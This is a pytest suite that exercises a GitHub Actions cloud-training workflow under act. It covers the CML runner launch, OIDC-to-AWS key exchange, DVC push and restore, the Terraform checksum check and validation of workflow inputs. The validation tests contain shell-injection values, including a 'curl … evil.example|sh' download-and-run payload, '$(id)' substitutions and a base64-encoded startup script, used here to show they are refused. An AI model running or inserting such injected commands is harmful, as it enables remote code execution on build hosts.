"""train-cloud.yaml under act: the cloud runner launch and the pull request it leads to.

No cloud machine here. act runs of the whole workflow:
1. valid inputs (AWS, spot, a native instance type, OIDC role): the launch job runs on
   the host as `ubuntu-latest` and its `cml runner launch` (the harness's `cml`
   recorder) must receive the inputs as documented, with AWS keys obtained from GitHub's
   OIDC token (a local token endpoint + the fake `aws`). The train job's runs-on labels
   `[self-hosted, cml-<run id>]` are mapped to the host too (`-P self-hosted=...`), so
   it trains for real with a directory DVC remote standing in for the bucket: `dvc pull`,
   `make run` on params committed without their dvc.lock, `dvc push --run-cache`, then
   `make train-pr` hands the new dvc.lock to `cml pr create` from a throw-away clone.
   A fresh clone with an empty cache then restores every stage from that remote alone.
2. bad inputs (cloud=foo, shell metacharacters, no REPO_TOKEN): refused by the first
   step, nothing launched, nothing trained; and, cheap as well, a run whose OIDC token
   request fails: nothing launched either.
3. Terraform: the launch job installs the pinned Terraform from the loopback release
   server (tests/workflows/downloads.py, a fake `terraform` zipped as HashiCorp ships it)
   after checking its sha256; the recorder's `runner launch` runs `terraform version
   -json` as CML does and records the version found (the host's own terraform is older,
   so the recorded 1.15.8 is the one installed). A wrong checksum fails the job before
   the launch.
The input check itself is also run alone with bash on a table of values (no act).
"""

from __future__ import annotations

import json
import os
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any, ClassVar

import pytest
import yaml
from tests.helpers import edit_params, run
from tests.workflows import act as harness
from tests.workflows.act import ActResult, GitRepo, World, make_repo
from tests.workflows.downloads import downloads

REPO = "acme/mlops-demo"
WORKFLOW = "train-cloud.yaml"
REPO_TOKEN = "repo-token-for-train-cloud-tests-0123456789"
ROLE_ARN = "arn:aws:iam::123456789012:role/train-cloud-github-oidc"
PERMISSION_SET = "arn:aws:iam::123456789012:instance-profile/train-cloud-bucket-rw"
OIDC_REQUEST_TOKEN = "oidc-request-token-for-train-cloud-tests"
OIDC_JWT = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJyZXBvOmFjbWUvbWxvcHMtZGVtbyJ9.c2lnbmF0dXJlLWZha2U"
GOOD_INPUTS = {
    "cloud": "aws",
    "region": "eu-west-1",
    "instance-type": "g5.xlarge",
    "gpu": "nogpu",
    "disk-gb": "250",
    "spot": "true",  # the event payload carries dispatch inputs as strings
}
CHECK_STEP = "Check the inputs and the repository set-up"
LAUNCH_STEP = "Launch the runner (cml runner launch)"
TERRAFORM_STEP = "Install Terraform"
PR_STEP = "Open a pull request with the new dvc.lock"
N_ESTIMATORS = 37  # committed without its dvc.lock: the cloud run must retrain


def dispatch_event(repo: GitRepo, inputs: dict[str, Any]) -> dict[str, Any]:
    return harness.dispatch_event(repo, WORKFLOW, **inputs)


class _OidcEndpoint(BaseHTTPRequestHandler):
    """GitHub's ID-token endpoint (ACTIONS_ID_TOKEN_REQUEST_URL), recording each request."""

    requests: ClassVar[list[dict[str, str]]] = []

    def do_GET(self) -> None:  # http.server's method name
        type(self).requests.append(
            {"path": self.path, "authorization": self.headers.get("Authorization", "")}
        )
        if not self.path.startswith("/_apis/token?"):
            self.send_error(404)
            return
        body = json.dumps({"count": 1, "value": OIDC_JWT}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def oidc() -> Iterator[tuple[str, list[dict[str, str]]]]:
    _OidcEndpoint.requests = []
    server = HTTPServer(("127.0.0.1", 0), _OidcEndpoint)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield (
        f"http://127.0.0.1:{server.server_port}/_apis/token?api-version=2.0",
        _OidcEndpoint.requests,
    )
    server.shutdown()


@pytest.fixture(scope="module")
def self_hosted() -> Iterator[None]:
    """act runs jobs whose runs-on includes `self-hosted` on the host as well."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(harness, "RUNNER", [*harness.RUNNER, "-P", "self-hosted=-self-hosted"])
        yield


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> World:
    return World(tmp_path_factory.mktemp("github"))


@pytest.fixture(scope="module")
def remote(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("dvc-remote")


@pytest.fixture(scope="module")
def repo(tmp_path_factory: pytest.TempPathFactory, dvc_cache: Path, remote: Path) -> GitRepo:
    repo = make_repo(tmp_path_factory.mktemp("repo") / "mlops-demo", REPO)
    run(["dvc", "cache", "dir", str(dvc_cache)], repo.path)  # committed: act copies it
    run(["dvc", "remote", "add", "-d", "storage", str(remote)], repo.path)
    edit_params(repo.path, **{"train.random_forest.n_estimators": N_ESTIMATORS})
    repo.commit("another forest size, for the cloud to train (dvc.lock not updated)")
    return repo


@pytest.fixture(scope="module")
def good_run(
    world: World,
    repo: GitRepo,
    self_hosted: None,
    oidc: tuple[str, list[dict[str, str]]],
) -> ActResult:
    url, _ = oidc
    return world.act(
        repo,
        "workflow_dispatch",
        dispatch_event(repo, GOOD_INPUTS),
        WORKFLOW,
        env={
            "ACTIONS_ID_TOKEN_REQUEST_URL": url,
            "ACTIONS_ID_TOKEN_REQUEST_TOKEN": OIDC_REQUEST_TOKEN,
        },
        secrets={
            "REPO_TOKEN": REPO_TOKEN,
            "AWS_ROLE_ARN": ROLE_ARN,
            "CLOUD_PERMISSION_SET": PERMISSION_SET,
        },
    )


def aws_calls(world: World) -> list[dict[str, Any]]:
    log = world.store / "aws-calls.jsonl"
    return [json.loads(line) for line in log.read_text().splitlines()] if log.exists() else []


def job_succeeded(result: ActResult, job_name: str) -> bool:
    workflow = yaml.safe_load((harness.WORKFLOWS / WORKFLOW).read_text())["name"]
    return f"[{workflow}/{job_name}] 🏁  Job succeeded" in result.output


@pytest.mark.slow
def test_launch_passes_the_inputs_to_cml_runner_launch(
    good_run: ActResult, world: World, oidc: tuple[str, list[dict[str, str]]]
) -> None:
    result = good_run
    assert job_succeeded(result, "Launch the cloud runner"), str(result)
    launch = result.cml_calls()[0]
    assert launch["command"] == "runner launch" and launch["token"] is True
    assert launch["flags"] == {
        "cloud": "aws",
        "cloud-region": "eu-west-1",
        "cloud-type": "g5.xlarge",
        "cloud-gpu": "nogpu",
        "cloud-hdd-size": "250",
        "cloud-spot": "true",
        "labels": f"cml-{result.run_id}",  # what the train job's runs-on asks for
        "name": f"cml-{result.run_id}-1",
        "single": "true",
        "idle-timeout": "600",
        "cloud-metadata": f"github-run-id={result.run_id}",
        "cloud-permission-set": PERMISSION_SET,
        "repo": f"https://github.com/{REPO}",
    }
    # Terraform was installed, verified, before the launch, and is what CML found on PATH.
    assert launch["terraform"] == "1.15.8"
    assert result.step_succeeded(TERRAFORM_STEP), str(result)
    installed = result.output.index(f"✅  Success - Main {TERRAFORM_STEP}")
    assert installed < result.output.index(f"⭐ Run Main {LAUNCH_STEP}")
    assert result.terraform_calls()[:2] == ["version", "version -json"]  # ours, then CML's
    # The CML binary came from our setup-cml action, with the run's token.
    server = downloads()
    assert any(
        r["authorization"] == "Bearer test-token" for r in server.requests_for(server.cml_path)
    )
    # AWS keys came from GitHub's OIDC token for STS, exchanged for the role's keys.
    (request,) = [r for r in oidc[1] if r["path"].startswith("/_apis/token?")]
    assert request["path"].endswith("api-version=2.0&audience=sts.amazonaws.com")
    assert request["authorization"] == f"bearer {OIDC_REQUEST_TOKEN}"
    (exchange,) = aws_calls(world)
    assert exchange["options"]["--role-arn"] == ROLE_ARN
    assert exchange["options"]["--web-identity-token"] == f"<{len(OIDC_JWT)} chars>"
    assert exchange["options"]["--duration-seconds"] == "43200"
    assert (
        OIDC_JWT not in result.output and f"fake-secret-github-{result.run_id}" not in result.output
    )


@pytest.mark.slow
def test_train_job_pushes_to_the_dvc_remote_and_opens_a_pr_with_dvc_lock(
    good_run: ActResult, remote: Path
) -> None:
    result = good_run
    assert job_succeeded(result, "Train on the cloud runner and open a pull request"), str(result)
    assert result.step_succeeded("Pull the data and earlier results from the DVC remote")
    assert "Running stage 'train'" in result.output  # the stale dvc.lock was retrained
    assert result.step_succeeded("Push the outputs and the run-cache to the DVC remote")
    assert list((remote / "files" / "md5").rglob("*")) and list((remote / "runs").rglob("*"))

    launch, pr = result.cml_calls()
    assert launch["command"] == "runner launch"
    assert pr["command"] == "pr create" and pr["token"] is True
    positional = [a for a in pr["args"][2:] if not a.startswith("--")]
    assert positional == ["dvc.lock", "params.yaml"]
    flags = pr["flags"]
    assert flags["target-branch"] == "main"
    assert flags["branch"] == f"cloud-train/{result.run_id}-1"
    assert flags["title"] == f"Cloud training: aws g5.xlarge (run {result.run_id})"
    assert flags["message"] == f"Results of cloud training run {result.run_id}"  # no [skip ci]
    assert f"https://github.com/{REPO}/actions/runs/{result.run_id}" in flags["body"]
    assert not {"skip-ci", "merge", "squash", "rebase"} & set(flags)  # a person merges it
    # What the throw-away clone holds for the PR: dvc.lock changed, params.yaml as committed.
    listing = result.output.split(f"pull request into main of https://github.com/{REPO} with:")
    assert len(listing) == 2, result
    changed = listing[1].split("cml (recorder)")[0].split("\n")[:3]
    assert any(line.rstrip().endswith("M dvc.lock") for line in changed), changed
    assert not any("params.yaml" in line for line in changed), changed


@pytest.mark.slow
def test_the_remote_alone_restores_the_trained_pipeline(
    good_run: ActResult, repo: GitRepo, tmp_path: Path
) -> None:
    """What the PR's reviewers (and pr.yaml) get: every stage restored, none rerun."""
    assert job_succeeded(good_run, "Train on the cloud runner and open a pull request"), good_run
    clone = tmp_path / "clone"
    run(["git", "clone", "-q", str(repo.path), str(clone)], tmp_path)
    run(["dvc", "cache", "dir", "--local", str(tmp_path / "empty-cache")], clone)
    restored = run(["dvc", "repro", "--pull"], clone)  # pulls what it needs, run-cache too
    assert "Running stage" not in restored.stdout, restored.stdout
    for stage in ("train", "evaluate"):  # changed by the params: from the run-cache
        assert f"Stage '{stage}' is cached - skipping run" in restored.stdout, restored.stdout
    assert (clone / "models" / "model.onnx").is_file()
    info = json.loads((clone / "models" / "train_info.json").read_text())
    assert info["hyperparameters"]["n_estimators"] == N_ESTIMATORS  # the cloud's model


@pytest.mark.slow
def test_bad_inputs_are_refused_before_anything_launches(
    world: World, repo: GitRepo, self_hosted: None
) -> None:
    before = len(aws_calls(world))
    inputs = {
        **GOOD_INPUTS,
        "cloud": "foo",
        "instance-type": "t2.micro;curl -s evil.example|sh",
        "region": "us-east-1 $(id)",
        "disk-gb": "-5",
    }
    result = world.act(repo, "workflow_dispatch", dispatch_event(repo, inputs), WORKFLOW)
    assert result.returncode != 0
    assert result.step_failed(CHECK_STEP), str(result)
    for refused in ("cloud must be", "region:", "instance-type:", "disk-gb", "the REPO_TOKEN"):
        assert f"Input refused::{refused}" in result.output, (refused, str(result))
    assert not result.step_ran(LAUNCH_STEP) and not result.step_ran(PR_STEP)
    assert not result.step_ran("Reproduce the pipeline")
    assert result.cml_calls() == [] and len(aws_calls(world)) == before


@pytest.mark.slow
def test_a_wrong_terraform_checksum_fails_the_job_before_the_launch(
    world: World, repo: GitRepo, self_hosted: None, oidc: tuple[str, list[dict[str, str]]]
) -> None:
    url, _ = oidc
    before_aws = len(aws_calls(world))
    result = world.act(
        repo,
        "workflow_dispatch",
        dispatch_event(repo, GOOD_INPUTS),
        WORKFLOW,
        job="launch",
        env={
            "ACTIONS_ID_TOKEN_REQUEST_URL": url,
            "ACTIONS_ID_TOKEN_REQUEST_TOKEN": OIDC_REQUEST_TOKEN,
            "TERRAFORM_TEST_SHA256": "f" * 64,
        },
        secrets={"REPO_TOKEN": REPO_TOKEN, "AWS_ROLE_ARN": ROLE_ARN},
    )
    assert result.returncode != 0
    assert result.step_failed(TERRAFORM_STEP), str(result)
    assert "Terraform checksum mismatch" in result.output
    assert not result.step_ran(LAUNCH_STEP)
    assert result.cml_calls() == [] and result.terraform_calls() == []
    assert len(aws_calls(world)) == before_aws


@pytest.mark.slow
def test_no_oidc_token_no_launch(
    world: World, repo: GitRepo, self_hosted: None, oidc: tuple[str, list[dict[str, str]]]
) -> None:
    """The role is configured but GitHub's token endpoint fails: fail closed."""
    url, requests = oidc
    before_requests, before_aws = len(requests), len(aws_calls(world))
    result = world.act(
        repo,
        "workflow_dispatch",
        dispatch_event(repo, GOOD_INPUTS),
        WORKFLOW,
        env={
            "ACTIONS_ID_TOKEN_REQUEST_URL": url.replace("/_apis/token?", "/elsewhere?"),
            "ACTIONS_ID_TOKEN_REQUEST_TOKEN": OIDC_REQUEST_TOKEN,
        },
        secrets={"REPO_TOKEN": REPO_TOKEN, "AWS_ROLE_ARN": ROLE_ARN},
    )
    assert result.returncode != 0
    assert result.step_failed(LAUNCH_STEP), str(result)
    assert len(requests) == before_requests + 1  # it asked, and got a 404
    assert len(aws_calls(world)) == before_aws and result.cml_calls() == []
    assert not result.step_ran("Reproduce the pipeline")


# --- the input check alone (bash, no act) ------------------------------------------------

VALID = {
    "CLOUD": "aws",
    "REGION": "us-west",
    "INSTANCE_TYPE": "m",
    "GPU": "nogpu",
    "DISK_GB": "100",
    "SPOT": "false",
    "HAS_REPO_TOKEN": "true",
}


def run_check(**values: str) -> subprocess.CompletedProcess[str]:
    """The launch job's first step, as GitHub runs a `run:` (bash -eo pipefail)."""
    workflow = yaml.safe_load((harness.WORKFLOWS / WORKFLOW).read_text())
    (step,) = [s for s in workflow["jobs"]["launch"]["steps"] if s.get("name") == CHECK_STEP]
    assert set(step["env"]) == set(VALID)
    env = {**VALID, **values, "PATH": os.environ["PATH"]}
    return subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]],
        env=env,
        text=True,
        capture_output=True,
        timeout=30,
    )


@pytest.mark.parametrize(
    "values",
    [
        {},
        {"CLOUD": "gcp", "REGION": "us-central1-a", "INSTANCE_TYPE": "n1-highmem-16",
         "GPU": "nvidia-tesla-t4", "DISK_GB": "500", "SPOT": "true"},
        {"CLOUD": "azure", "REGION": "westeurope", "INSTANCE_TYPE": "Standard_NC6s_v3"},
        {"REGION": "eu-central-1", "INSTANCE_TYPE": "g5.xlarge", "GPU": "v100"},
        {"INSTANCE_TYPE": "m+k80", "DISK_GB": "99999"},
    ],
)  # fmt: skip
def test_the_input_check_accepts_each_clouds_own_names(values: dict[str, str]) -> None:
    result = run_check(**values)
    assert result.returncode == 0 and "::error" not in result.stdout, result.stdout


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("CLOUD", "kubernetes"),  # CML could, this workflow does not
        ("CLOUD", "AWS"),
        ("REGION", ""),
        ("REGION", "us-east-1;reboot"),
        ("REGION", "us-east-1\nus-west-2"),
        ("INSTANCE_TYPE", "--cloud-startup-script=Y3VybCBldmlsIHwgc2g="),
        ("INSTANCE_TYPE", "t2.micro $(id)"),
        ("INSTANCE_TYPE", "t2.micro`id`"),
        ("INSTANCE_TYPE", "x" * 65),
        ("GPU", "v100 --cloud-spot"),
        ("DISK_GB", "0"),
        ("DISK_GB", "1e3"),
        ("DISK_GB", "100000"),
        ("SPOT", "yes"),
        ("HAS_REPO_TOKEN", "false"),
    ],
)
def test_the_input_check_refuses_bad_values(name: str, value: str) -> None:
    result = run_check(**{name: value})
    assert result.returncode == 1, result.stdout
    (error,) = [line for line in result.stdout.splitlines() if line.startswith("::error")]
    assert "Input refused" in error
